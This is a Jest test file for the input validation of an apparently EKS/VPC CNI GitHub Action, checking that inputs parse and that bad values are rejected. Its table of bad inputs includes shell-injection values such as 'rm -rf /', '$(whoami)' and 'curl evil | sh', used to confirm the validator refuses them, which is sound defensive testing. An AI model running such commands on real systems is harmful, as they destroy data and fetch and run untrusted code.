import { describe, expect, it } from '@jest/globals'
import { Inputs } from '../src/constants.js'
import { INPUT_DEFAULTS } from '../src/settings.js'
import { getInputs } from '../src/inputs.js'
import { InputError, quote } from '../src/inputs-parse.js'
import { parseSubnets } from '../src/inputs-ec2.js'

const GOOD: Partial<Record<Inputs, string>> = {
  [Inputs.ClusterName]: 'demo',
  [Inputs.AwsRegion]: 'ap-northeast-2',
  [Inputs.Subnets]: 'subnet-0a1b2c3d4e5f60718, subnet-0a1b2c3d4e5f60719\nsubnet-0a1b2c3d4e5f6071a'
}

/** Reads inputs the way the runner passes them: unset inputs get their action.yml default. */
function reader(overrides: Partial<Record<Inputs, string>>) {
  const values = { ...INPUT_DEFAULTS, ...GOOD, ...overrides }
  return (name: Inputs): string => values[name]
}

function parse(overrides: Partial<Record<Inputs, string>>, env: NodeJS.ProcessEnv = {}) {
  return getInputs(reader(overrides), env)
}

describe('getInputs', () => {
  it('reads mode, resolve-conflicts and take-over-addon-fields with their action.yml defaults', () => {
    expect(parse({})).toMatchObject({
      mode: 'auto',
      resolveConflicts: 'OVERWRITE',
      takeOverAddonFields: false
    })
    expect(
      parse({
        [Inputs.Mode]: 'Self-Managed',
        [Inputs.ResolveConflicts]: 'none',
        [Inputs.TakeOverAddonFields]: 'true'
      })
    ).toMatchObject({ mode: 'self-managed', resolveConflicts: 'NONE', takeOverAddonFields: true })
    expect(() => parse({ [Inputs.Mode]: 'helm' })).toThrow(/'mode'.*auto, addon, self-managed/s)
    expect(() => parse({ [Inputs.ResolveConflicts]: 'FORCE' })).toThrow(/'resolve-conflicts'/)
  })

  it('reads the issue-4 inputs: instance types, fail-on-warnings and dry-run', () => {
    expect(parse({})).toMatchObject({ instanceTypes: [], failOnWarnings: false, dryRun: false })
    expect(
      parse({
        [Inputs.InstanceTypes]: 'm5.large, t3.medium\nc5.4xlarge',
        [Inputs.FailOnWarnings]: 'true',
        [Inputs.DryRun]: 'true'
      })
    ).toMatchObject({
      instanceTypes: ['m5.large', 't3.medium', 'c5.4xlarge'],
      failOnWarnings: true,
      dryRun: true
    })
    expect(() => parse({ [Inputs.InstanceTypes]: 'm5.large;rm -rf /' })).toThrow(
      /Input 'instance-types' has an invalid value "m5.large;rm": expected EC2 instance types/
    )
    expect(() => parse({ [Inputs.InstanceTypes]: 'm5.large m5.large' })).toThrow(/only once/)
    expect(() => parse({ [Inputs.DryRun]: 'yes' })).toThrow(/Input 'dry-run'/)
  })

  it('parses the origin scenario with the defaults into the origin settings', () => {
    const inputs = parse({})
    expect(inputs).toMatchObject({
      clusterName: 'demo',
      region: 'ap-northeast-2',
      roleToAssume: undefined,
      roleSessionName: 'GitHubActions',
      roleDurationSeconds: 3600,
      audience: 'sts.amazonaws.com',
      securityGroups: undefined,
      eniConfigLabelDef: 'topology.kubernetes.io/zone',
      cniVersion: undefined,
      manifestBaseUrl: 'https://raw.githubusercontent.com',
      imageRegistry: { mode: 'region' },
      wait: true,
      timeoutSeconds: 600,
      installKubectl: true,
      kubectlMirror: 'https://dl.k8s.io',
      exportKubeconfig: false
    })
    expect(inputs.subnets.map((s) => s.subnetId)).toHaveLength(3)
    expect(inputs.settings).toEqual({
      env: {
        ENABLE_POD_ENI: 'true',
        AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG: 'true',
        AWS_VPC_K8S_CNI_EXTERNALSNAT: 'true',
        ENABLE_PREFIX_DELEGATION: 'true',
        WARM_ENI_TARGET: '1',
        WARM_IP_TARGET: '1',
        MINIMUM_IP_TARGET: '30',
        WARM_PREFIX_TARGET: '1',
        ENI_CONFIG_LABEL_DEF: 'topology.kubernetes.io/zone'
      },
      initEnv: { DISABLE_TCP_EARLY_DEMUX: 'true' },
      unset: [],
      initUnset: []
    })
    expect(inputs.allowDowngrade).toBe(false)
  })

  it("lists a CNI variable whose input is '' as one to remove, unless an env line sets it", () => {
    const inputs = parse({
      [Inputs.WarmIpTarget]: '',
      [Inputs.WarmEniTarget]: '',
      [Inputs.DisableTcpEarlyDemux]: '',
      [Inputs.Env]: 'WARM_ENI_TARGET=2',
      [Inputs.AllowDowngrade]: 'true'
    })
    expect(inputs.settings.unset).toEqual(['WARM_IP_TARGET'])
    expect(inputs.settings.initUnset).toEqual(['DISABLE_TCP_EARLY_DEMUX'])
    expect(inputs.settings.env.WARM_ENI_TARGET).toBe('2')
    expect(inputs.allowDowngrade).toBe(true)
  })

  it.each([
    ['ENI_CONFIG_LABEL_DEF=topology.k8s.aws/zone-id', 'eni-config-label-def'],
    ['ENI_CONFIG_ANNOTATION_DEF=k8s.amazonaws.com/eniConfig', 'eni-config-label-def'],
    ['AWS_VPC_K8S_CNI_CUSTOM_NETWORK_CFG=false', 'custom-network-cfg']
  ])('refuses env line %s, naming the input %s', (line, input) => {
    expect(() => parse({ [Inputs.Env]: line })).toThrow(
      new RegExp(
        `Input 'env' has an invalid value .*: expected no \\w+ line: set it with the input '${input}' instead`
      )
    )
  })

  it('leaves a CNI variable unset when its input is empty, and lets env lines win', () => {
    const inputs = parse({
      [Inputs.WarmIpTarget]: '',
      [Inputs.EnablePodEni]: '',
      [Inputs.DisableTcpEarlyDemux]: '',
      [Inputs.Env]:
        '# tuning\nWARM_ENI_TARGET=0\n\nMINIMUM_IP_TARGET=10\nADDITIONAL_ENI_TAGS={"team":"net"}'
    })
    expect(inputs.settings.env.WARM_IP_TARGET).toBeUndefined()
    expect(inputs.settings.env.ENABLE_POD_ENI).toBeUndefined()
    expect(inputs.settings.initEnv).toEqual({})
    expect(inputs.settings.env).toMatchObject({
      WARM_ENI_TARGET: '0',
      MINIMUM_IP_TARGET: '10',
      ADDITIONAL_ENI_TAGS: '{"team":"net"}'
    })
  })

  it('takes the region from AWS_REGION, else AWS_DEFAULT_REGION', () => {
    expect(parse({ [Inputs.AwsRegion]: '' }, { AWS_REGION: 'eu-west-1' }).region).toBe('eu-west-1')
    expect(parse({ [Inputs.AwsRegion]: '' }, { AWS_DEFAULT_REGION: 'cn-north-1' }).region).toBe(
      'cn-north-1'
    )
  })

  it('accepts zone=subnet pairs, zone IDs, a role ARN in any partition and normalized versions', () => {
    const inputs = parse({
      [Inputs.Subnets]:
        'ap-northeast-2c=subnet-0123456789abcdef0 apne2-az1=subnet-0123456789abcdef1',
      [Inputs.RoleToAssume]: 'arn:aws-us-gov:iam::123456789012:role/path/deploy',
      [Inputs.CniVersion]: '1.19.6',
      [Inputs.KubectlVersion]: 'v1.31.4',
      [Inputs.ManifestSha256]: 'AB'.repeat(32),
      [Inputs.Manifest]: './cni/aws-k8s-cni.yaml',
      [Inputs.ManifestBaseUrl]: 'https://mirror.example.com/raw/',
      [Inputs.KubectlMirror]: 'http://127.0.0.1:8080',
      [Inputs.ImageRegistry]: 'registry.example.com:5000/eks'
    })
    expect(inputs.subnets).toEqual([
      { zone: 'ap-northeast-2c', subnetId: 'subnet-0123456789abcdef0' },
      { zone: 'apne2-az1', subnetId: 'subnet-0123456789abcdef1' }
    ])
    expect(inputs.cniVersion).toBe('v1.19.6')
    expect(inputs.kubectlVersion).toEqual({ kind: 'exact', version: 'v1.31.4' })
    expect(inputs.manifestSha256).toBe('ab'.repeat(32))
    expect(inputs.manifest).toEqual({ path: './cni/aws-k8s-cni.yaml' })
    expect(inputs.manifestBaseUrl).toBe('https://mirror.example.com/raw')
    expect(inputs.imageRegistry).toEqual({
      mode: 'custom',
      registry: 'registry.example.com:5000/eks'
    })
  })

  it.each([
    ['', undefined],
    ['latest', { kind: 'latest' }],
    ['1.30', { kind: 'minor', minor: '1.30' }],
    ['v1.30', { kind: 'minor', minor: '1.30' }],
    ['1.28.15', { kind: 'exact', version: 'v1.28.15' }]
  ])('reads kubectl-version %p as %j', (raw, expected) => {
    expect(parse({ [Inputs.KubectlVersion]: raw }).kubectlVersion).toEqual(expected)
  })

  it('reports every invalid input at once', () => {
    expect(() => parse({ [Inputs.ClusterName]: '', [Inputs.Wait]: 'yes' })).toThrow(
      /2 inputs are invalid:\n- Input 'cluster-name'.*\n- Input 'wait'/
    )
  })
})

// Each case: input, bad value, what the message must say is expected.
const BAD: [Inputs, string, RegExp][] = [
  [Inputs.ClusterName, '', /required/],
  [Inputs.ClusterName, 'demo; rm -rf /', /EKS cluster name/],
  [Inputs.ClusterName, 'demo\nfoo: bar', /EKS cluster name/],
  [Inputs.ClusterName, '$(whoami)', /EKS cluster name/],
  [Inputs.AwsRegion, 'ap-northeast', /region code/],
  [Inputs.AwsRegion, 'AP-NORTHEAST-2', /region code/],
  [Inputs.AwsRegion, 'us-east-1`id`', /region code/],
  [Inputs.RoleToAssume, 'arn:aws:iam::12345:role/deploy', /IAM role ARN/],
  [Inputs.RoleToAssume, 'deploy-role', /IAM role ARN/],
  [Inputs.RoleToAssume, 'arn:aws:iam::123456789012:user/alice', /IAM role ARN/],
  [Inputs.RoleToAssume, 'arn:aws:iam::123456789012:role/x y', /IAM role ARN/],
  [Inputs.RoleSessionName, 'a b', /2 to 64 characters/],
  [Inputs.RoleSessionName, 'x'.repeat(65), /2 to 64 characters/],
  [Inputs.RoleDurationSeconds, '899', /900 to 43200/],
  [Inputs.RoleDurationSeconds, '43201', /900 to 43200/],
  [Inputs.RoleDurationSeconds, '1h', /900 to 43200/],
  [Inputs.Audience, 'sts.amazonaws.com; echo', /audience/],
  [Inputs.Subnets, ', ,', /at least one subnet ID/],
  [Inputs.Subnets, 'subnet-xyz', /subnet ID/],
  [Inputs.Subnets, 'subnet-0123456789abcdef0;reboot', /subnet ID/],
  [Inputs.Subnets, 'sg-0123456789abcdef0', /subnet ID/],
  [Inputs.Subnets, 'ap-northeast-2a:subnet-0123456789abcdef0', /zone=subnet-id pair/],
  [Inputs.Subnets, 'nowhere=subnet-0123456789abcdef0', /zone=subnet-id pair/],
  [Inputs.Subnets, 'subnet-0123456789abcdef0 subnet-0123456789abcdef0', /each subnet only once/],
  [
    Inputs.Subnets,
    'subnet-0123456789abcdef0 ap-northeast-2a=subnet-0123456789abcdef0',
    /each subnet only once/
  ],
  [
    Inputs.Subnets,
    'ap-northeast-2a=subnet-0123456789abcdef0,ap-northeast-2a=subnet-0123456789abcdef1',
    /one subnet per zone/
  ],
  [Inputs.SecurityGroups, 'sg-123', /security group ID/],
  [Inputs.SecurityGroups, 'subnet-0123456789abcdef0', /security group ID/],
  [Inputs.SecurityGroups, 'sg-0123456789abcdef0|cat', /security group ID/],
  [
    Inputs.SecurityGroups,
    'sg-0123456789abcdef0,sg-0123456789abcdef0',
    /each security group only once/
  ],
  [Inputs.EniConfigLabelDef, 'topology.kubernetes.io/zone: x', /label key/],
  [Inputs.EniConfigLabelDef, 'Bad_Prefix/zone', /label key/],
  [Inputs.EniConfigLabelDef, 'zone/', /label key/],
  [Inputs.CniVersion, 'latest', /version such as v1\.19\.6/],
  [Inputs.CniVersion, 'v1.19', /version such as v1\.19\.6/],
  [Inputs.CniVersion, 'v1.19.6-eksbuild.1', /version such as v1\.19\.6/],
  [Inputs.Manifest, 'http://example.com/aws-k8s-cni.yaml', /https:\/\/ URL/],
  [Inputs.Manifest, 'ftp://example.com/aws-k8s-cni.yaml', /https:\/\/ URL/],
  [Inputs.Manifest, 'cni.yaml; curl evil | sh', /file path without shell/],
  [Inputs.ManifestSha256, 'abc123', /64 hex digits/],
  [Inputs.ManifestSha256, 'z'.repeat(64), /64 hex digits/],
  [Inputs.ManifestBaseUrl, 'http://mirror.example.com', /https:\/\/ URL/],
  [Inputs.ManifestBaseUrl, 'https://user:pass@mirror.example.com', /without credentials/],
  [Inputs.ManifestBaseUrl, 'https://mirror.example.com/?x=$(id)', /https:\/\/ URL/],
  [Inputs.ImageRegistry, 'Registry Example', /registry such as/],
  [Inputs.ImageRegistry, 'registry.example.com/$(id)', /registry such as/],
  [Inputs.EnablePodEni, 'yes', /true, false, or empty/],
  [Inputs.DisableTcpEarlyDemux, '1', /true, false, or empty/],
  [Inputs.CustomNetworkCfg, 'on', /true, false, or empty/],
  [Inputs.ExternalSnat, 'enabled', /true, false, or empty/],
  [Inputs.WarmIpTarget, '-1', /whole number from 0 to 10000/],
  [Inputs.MinimumIpTarget, 'thirty', /whole number from 0 to 10000/],
  [Inputs.WarmPrefixTarget, '1.5', /whole number from 0 to 10000/],
  [Inputs.Env, 'WARM_ENI_TARGET', /one KEY=VALUE per line/],
  [Inputs.Env, 'warm_eni_target=1', /A-Z, 0-9 and _/],
  [Inputs.Env, 'WARM-ENI-TARGET=1', /A-Z, 0-9 and _/],
  [Inputs.Env, 'A=1\nA=2', /A only once/],
  [Inputs.Env, '$(id)=1', /A-Z, 0-9 and _/],
  [Inputs.Wait, 'yes', /true or false/],
  [Inputs.TimeoutSeconds, '10m', /1 to 86400/],
  [Inputs.TimeoutSeconds, '0', /1 to 86400/],
  [Inputs.TimeoutSeconds, '-5', /1 to 86400/],
  [Inputs.InstallKubectl, 'y', /true or false/],
  [Inputs.KubectlVersion, '1.31.x', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, 'stable', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, 'v1.31.4;ls', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, '1', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, '1.31.2.4', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, 'v1.31.2-rc.1', /version such as v1\.31\.4/],
  [Inputs.KubectlVersion, '1.31; rm -rf /', /version such as v1\.31\.4/],
  [Inputs.KubectlMirror, 'dl.k8s.io', /https:\/\/ URL/],
  [Inputs.KubectlMirror, 'http://dl.k8s.io', /https:\/\/ URL/],
  [Inputs.ExportKubeconfig, 'no', /true or false/]
]

describe('bad inputs', () => {
  it('has at least 25 distinct cases', () => {
    expect(new Set(BAD.map(([i, v]) => `${i}=${v}`)).size).toBe(BAD.length)
    expect(BAD.length).toBeGreaterThanOrEqual(25)
  })

  it.each(BAD)(
    '%s = %j is rejected, naming the input and quoting the value',
    (input, value, expected) => {
      let message = ''
      try {
        parse({ [input]: value })
      } catch (error) {
        message = (error as Error).message
      }
      expect(message).toContain(`Input '${input}'`)
      expect(message).toMatch(/expected /)
      expect(message).toMatch(expected)
      // The quoted value is the offending entry: the whole value, or the one list item / env line.
      const entries = [
        value.trim(),
        ...value.split(/[\s,]+/),
        ...value.split('\n').map((l) => l.trim())
      ]
      expect(entries.some((entry) => message.includes(quote(entry)))).toBe(true)
    }
  )

  it('rejects a bad AWS_REGION when the input is empty, naming aws-region', () => {
    expect(() => parse({ [Inputs.AwsRegion]: '' }, { AWS_REGION: 'mars-1' })).toThrow(
      /Input 'aws-region' has an invalid value "mars-1": expected AWS_REGION/
    )
    expect(() => parse({ [Inputs.AwsRegion]: '' }, {})).toThrow(/Input 'aws-region'.*AWS_REGION/)
  })

  it('throws InputError from the parsers with the parts as fields', () => {
    try {
      parseSubnets('subnets', 'subnet-1')
      throw new Error('not rejected')
    } catch (error) {
      expect(error).toBeInstanceOf(InputError)
      expect(error).toMatchObject({ input: 'subnets', value: 'subnet-1' })
    }
  })
})
